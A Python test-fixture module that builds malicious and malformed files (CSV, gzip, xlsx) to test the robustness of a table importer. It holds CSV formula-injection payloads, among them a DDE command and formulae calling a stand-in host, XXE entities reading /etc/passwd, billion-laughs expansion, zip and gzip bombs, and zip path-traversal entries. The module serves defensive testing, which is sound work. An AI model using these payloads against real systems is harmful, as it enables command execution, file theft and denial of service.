"""Files made to do harm or to confuse, by family. Each maker writes one into a folder and returns its path.

`headings` are those of the importer it is tried on, so that the harm is met, not merely the wrong headings.
"""

import gzip
import struct
import tempfile
import zipfile
import zlib
from collections.abc import Callable, Iterator, Sequence
from pathlib import Path

import xlsxwriter

Maker = Callable[[Path, Sequence[str]], Path]


def _csv(folder: Path, name: str, content: bytes) -> Path:
    path = folder / name
    path.write_bytes(content)
    return path


def _head(headings: Sequence[str], end: str = "\n") -> bytes:
    return (",".join(f'"{each}"' for each in headings) + end).encode()


def _row(headings: Sequence[str], cell: str) -> bytes:
    return (",".join([cell] * len(headings)) + "\n").encode()


PAYLOADS = (
    "cmd|' /C calc'!A0",
    'HYPERLINK(""http://people.example/?x="",1)',
    'WEBSERVICE(""http://people.example/"")',
    "1+1",
)


def formulae(sign: str, payload: str) -> Maker:
    def make(folder, headings):
        return _csv(folder, "formulae.csv", _head(headings) + _row(headings, f'"{sign}{payload}"'))

    return make


def zip_bomb(folder, headings):
    path = folder / "bomb.xlsx"
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED, compresslevel=9) as book:
        book.writestr("xl/workbook.xml", b"<workbook/>")
        with book.open("xl/worksheets/sheet1.xml", "w") as part:
            for _ in range(100):
                part.write(b"0" * (1 << 20))
    return path


def lying_zip(folder, headings):
    """Make a bomb that says it is small."""
    path = zip_bomb(folder, headings)
    content = path.read_bytes()
    path.write_bytes(content.replace(struct.pack("<L", 100 << 20), struct.pack("<L", 1000)))
    return path


def many_entries(folder, headings):
    path = folder / "entries.xlsx"
    with zipfile.ZipFile(path, "w") as book:
        for number in range(5_000):
            book.writestr(f"xl/{number}.xml", b"")
    return path


def gzip_bomb(folder, headings):
    packer = zlib.compressobj(9, zlib.DEFLATED, 31)
    packed = packer.compress(_head(headings))
    packed += b"".join(packer.compress(b"0" * (1 << 20)) for _ in range(100)) + packer.flush()
    return _csv(folder, "bomb.csv.gz", packed)


def gzip_of_rows(folder, headings):
    packer = zlib.compressobj(9, zlib.DEFLATED, 31)
    rows = _row(headings, "1") * 100_000
    packed = packer.compress(_head(headings)) + b"".join(packer.compress(rows) for _ in range(20)) + packer.flush()
    return _csv(folder, "rows.csv.gz", packed)


def control(character: str, *, in_heading: bool = False) -> Maker:
    def make(folder, headings):
        head = [*headings[:-1], headings[-1] + character] if in_heading else headings
        row = _row(headings, "1" if in_heading else f"1{character}")
        return _csv(folder, "control.csv", _head(head) + row)

    return make


def written_in(encoding: str, mark: bytes = b"") -> Maker:
    def make(folder, headings):
        text = (_head(headings) + _row(headings, "1")).decode()
        return _csv(folder, "letters.csv", mark + text.encode(encoding))

    return make


def ill_formed(tail: bytes, mark: bytes = b"\xef\xbb\xbf") -> Maker:
    """Make a file that says it is UTF-8 and is not."""

    def make(folder, headings):
        return _csv(folder, "utf8.csv", mark + _head(headings) + tail + b"\n")

    return make


def no_letters(folder, headings):
    return _csv(folder, "bytes.csv", _head(headings) + _row(headings, "x") + b"\x81\x8d\x8f\n")


def broken_utf16(folder, headings):
    return _csv(folder, "utf16.csv", b"\xff\xfe" + _head(headings).decode().encode("utf-16-le") + b"\x00\xd8\x00")


def cut_gzip(share: float) -> Maker:
    def make(folder, headings):
        whole = gzip.compress(_head(headings) + b"".join(_row(headings, str(n)) for n in range(5_000)))
        return _csv(folder, "cut.csv.gz", whole[: int(len(whole) * share)])

    return make


def cut_workbook(share: float) -> Maker:
    def make(folder, headings):
        whole = workbook(folder, headings, [["1"] * len(headings)]).read_bytes()
        return _csv(folder, "cut.xlsx", whole[: int(len(whole) * share)])

    return make


def truncated_quote(folder, headings):
    return _csv(folder, "cut.csv", _head(headings) + b'"begun and never')


def damaged_gzip(share: float) -> Maker:
    def make(folder, headings):
        whole = bytearray(gzip.compress(_head(headings) + b"".join(_row(headings, str(n)) for n in range(5_000))))
        whole[int(len(whole) * share)] ^= 0xFF
        return _csv(folder, "bad.csv.gz", bytes(whole))

    return make


STRINGS, SHEET, BOOK = "xl/sharedStrings.xml", "xl/worksheets/sheet1.xml", "xl/workbook.xml"


def xml_with(prolog: str, encoding: str = "utf-8", part: str = STRINGS) -> Maker:
    """Put XML before, and so into, one part of an honest workbook."""

    def make(folder, headings):
        path = workbook(folder, headings, [["1"] * len(headings)])
        out = folder / "xml.xlsx"
        with zipfile.ZipFile(path) as book, zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as copy:
            for entry in book.infolist():
                text = book.read(entry).decode()
                if entry.filename == part:
                    text = prolog + text[text.index("?>") + 2 :]
                copy.writestr(entry.filename, text.encode(encoding if entry.filename == part else "utf-8"))
        return out

    return make


XXE = '<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>'
PARAMETER = '<!DOCTYPE x [<!ENTITY % p SYSTEM "http://people.example/x.dtd"> %p;]>'
EXTERNAL = '<!DOCTYPE x SYSTEM "http://people.example/x.dtd">'
QUADRATIC = f'<!DOCTYPE x [<!ENTITY q "{"q" * 50_000}">]>'
LAUGHS = "<!DOCTYPE x [" + "".join(f'<!ENTITY l{n} "{f"&l{n - 1};" * 10 if n else "lol"}">' for n in range(9)) + "]>"


def huge_cell(letter: str, count: int) -> Maker:
    def make(folder, headings):
        return _csv(folder, "cell.csv", _head(headings) + _row(headings, letter * count))

    return make


def one_line(letter: bytes, count: int) -> Maker:
    """Make a file that is one line without an end."""

    def make(folder, headings):
        return _csv(folder, "line.csv", _head(headings) + letter * count)

    return make


def huge_heading(folder, headings):
    return _csv(folder, "heading.csv", _head([*headings, "x" * 500_000]) + _row(headings, "1"))


def many_columns(count: int) -> Maker:
    def make(folder, headings):
        wide = [*headings, *(f"c{number}" for number in range(count))]
        return _csv(folder, "columns.csv", _head(wide) + _row(wide, "1"))

    return make


def far_cell(folder, headings):
    path = folder / "far.xlsx"
    with xlsxwriter.Workbook(path) as book:
        sheet = book.add_worksheet()
        sheet.write_row(0, 0, headings)
        sheet.write(1_048_575, 16_383, "x")
    return path


def deep_text(opening: bytes, closing: bytes = b"") -> Maker:
    def make(folder, headings):
        return _csv(folder, "deep.csv", opening * 200_000 + closing * 200_000)

    return make


def wrong_headings(folder, headings):
    return _csv(folder, "other.csv", b"Pupil,Mark\nA,5\n")


def no_headings(folder, headings):
    return _csv(folder, "bare.csv", _row(headings, "1") * 3)


def empty(folder, headings):
    return _csv(folder, "empty.csv", b"")


def blank(folder, headings):
    return _csv(folder, "blank.csv", b"\n,,,\n  \n")


def text_alone(content: bytes) -> Maker:
    """Make a file that is this and nothing else."""

    def make(folder, headings):
        return _csv(folder, "other.csv", content)

    return make


def heading_twice(place: int) -> Maker:
    def make(folder, headings):
        twice = [*headings, headings[place % len(headings)]]
        return _csv(folder, "twice.csv", _head(twice) + _row(twice, "1"))

    return make


def ragged(cells: int, *, end: bytes = b"\n", sign: bytes = b"1") -> Maker:
    """Make a table with a row of so many cells more (or fewer) than headings."""

    def make(folder, headings):
        count = max(len(headings) + cells, 1)
        return _csv(folder, "ragged.csv", _head(headings) + b",".join([sign] * count) + end)

    return make


def quoted(row: bytes) -> Maker:
    def make(folder, headings):
        return _csv(folder, "quotes.csv", _head(headings) + row + b"," + _row(headings[1:], "1"))

    return make


def of_kind(name: str, start: bytes) -> Maker:
    """Make a file of another kind, by its first bytes."""

    def make(folder, headings):
        return _csv(folder, name, start + bytes(4_000))

    return make


def zip_of(**parts: bytes) -> Maker:
    """Make a zip that is no workbook."""

    def make(folder, headings):
        path = folder / "other.xlsx"
        with zipfile.ZipFile(path, "w") as book:
            for name, content in parts.items():
                book.writestr(name, content)
        return path

    return make


def locked_zip(folder, headings):
    """Make a zip that says its parts need a password."""
    path = zip_of(**{"xl/workbook.xml": b"<workbook/>"})(folder, headings)
    content = bytearray(path.read_bytes())
    for sign, place in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        content[content.index(sign) + place] |= 1
    return _csv(folder, "locked.xlsx", bytes(content))


def workbook(folder: Path, headings: Sequence[str], rows: Sequence[Sequence[object]], name: str = "table.xlsx") -> Path:
    """Write an honest workbook."""
    path = folder / name
    with xlsxwriter.Workbook(path, {"strings_to_formulas": False}) as book:
        sheet = book.add_worksheet()
        for number, row in enumerate([headings, *rows]):
            sheet.write_row(number, 0, row)
    return path


TAGS = ("<a>", "<sst><si><t>" + "<b i='1'>x", "<worksheet><row>", "<x y='z'><w>")
CONTROL = "\0\x01\x07\x08\x0b\x0c\x1b\x1f"
CUTS = (0.1, 0.3, 0.5, 0.7, 0.9)
FAMILIES: dict[str, tuple[Maker, ...]] = {
    "formulae": tuple(formulae(sign, payload) for sign in "=+-@" for payload in PAYLOADS),
    "bombs": (
        zip_bomb,
        lying_zip,
        many_entries,
        gzip_bomb,
        gzip_of_rows,
        locked_zip,
        zip_of(**{"../../x": b"x"}),
        zip_of(**{"/etc/x": b"x"}),
        zip_of(**{"xl/workbook.xml": b"PK\x03\x04" * 1_000}),
        zip_of(**{"inner.zip": b"PK\x05\x06" + bytes(18)}),
        zip_of(),
        text_alone(gzip.compress(gzip.compress(b"0" * 100_000))),
        text_alone(gzip.compress(bytes(1_000_000))),
        text_alone(b"PK\x05\x06" + bytes(18)),
    ),
    "control characters": tuple(control(each, in_heading=place) for place in (False, True) for each in CONTROL),
    "wrong encodings": (
        *(
            written_in(each)
            for each in ("utf-16-le", "utf-16-be", "utf-32", "utf-32-le", "utf-32-be", "cp037", "cp500")
        ),
        written_in("utf-16-be", b"\xff\xfe"),
        written_in("utf-8", b"\xff\xfe"),
        no_letters,
        broken_utf16,
        *(
            ill_formed(tail)
            for tail in (b"\xff\xfe\xfd", b"\xc0\xaf", b"\xed\xa0\x80", b"\xf4\x90\x80\x80", b"\xe2\x82")
        ),
    ),
    "truncated": (
        *(cut_gzip(share) for share in CUTS),
        *(cut_workbook(share) for share in CUTS),
        *(damaged_gzip(share) for share in CUTS[1:]),
        truncated_quote,
    ),
    "XML entities": (
        *(xml_with(each, part=part) for each in (XXE, LAUGHS, EXTERNAL, PARAMETER) for part in (STRINGS, SHEET, BOOK)),
        xml_with(XXE, "utf-16"),
        xml_with(LAUGHS, "utf-16"),
        xml_with(QUADRATIC),
    ),
    "huge": (
        *(huge_cell(letter, count) for letter in "x9é" for count in (40_000, 200_000)),
        huge_heading,
        *(many_columns(count) for count in (2_500, 5_000, 20_000)),
        far_cell,
        *(one_line(letter, 3_000_000) for letter in (b"x", b'"', b",", b'"",')),
    ),
    "deep": (
        *(xml_with(tag * 200_000, part=part) for tag in TAGS for part in (STRINGS, SHEET)),
        *(deep_text(each) for each in (b"[", b'{"a":', b"<a>", b'["', b"(")),
        deep_text(b"[", b"]"),
        deep_text(b"<a>", b"</a>"),
    ),
    "wrong headings": (
        wrong_headings,
        no_headings,
        empty,
        blank,
        *(heading_twice(place) for place in (0, 1, -1)),
        *(
            text_alone(each)
            for each in (
                b"\xef\xbb\xbf",
                b"\n" * 1_000,
                b",",
                b'""',
                b"a",
                b"Pupil;Mark\nA;5\n",
                b"URN\n",
                b"urn,name\n",
                b"sourcedId\n1\n",
            )
        ),
    ),
    "ragged": (
        *(ragged(cells) for cells in (-1_000, 1, 2, 50)),
        *(ragged(1, end=each) for each in (b"", b"\r\n", b"\r")),
        *(ragged(3, sign=each) for each in (b'"x"', b"'", b"0")),
        *(quoted(each) for each in (b'"a"b', b'a"b"', b'"a""', b'"a" "b"')),
    ),
    "other kinds": (
        *(
            of_kind(name, start)
            for name, start in (
                ("old.xls", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"),
                ("table.csv", b"%PDF-1.7\n"),
                ("a.png", b"\x89PNG\r\n\x1a\n"),
                ("a.jpg", b"\xff\xd8\xff\xe0"),
                ("a.gif", b"GIF89a"),
                ("a.bin", b"\x7fELF"),
                ("a.exe", b"MZ\x90\0"),
                ("a.db", b"SQLite format 3\0"),
                ("a.7z", b"7z\xbc\xaf\x27\x1c"),
                ("a.rar", b"Rar!\x1a\x07"),
                ("a.xz", b"\xfd7zXZ\0"),
            )
        ),
        *(text_alone(each) for each in (b"<html><table><tr><td>URN", b'{"urn": 1}\n', b"<?xml version='1.0'?><a/>\n")),
        zip_of(**{"readme.txt": b"no workbook"}),
        zip_of(**{"word/document.xml": b"<w/>"}),
    ),
}
CASES = [(family, number, make) for family, makers in FAMILIES.items() for number, make in enumerate(makers, 1)]


def families(headings: Sequence[str]) -> Iterator[tuple[str, str, bytes]]:
    """Yield every file made to do harm to an importer of tables: its family, its name, what is in it."""
    for family, number, make in CASES:
        with tempfile.TemporaryDirectory() as folder:
            path = make(Path(folder), headings)
            yield family, f"{family}-{number}-{path.name}", path.read_bytes()
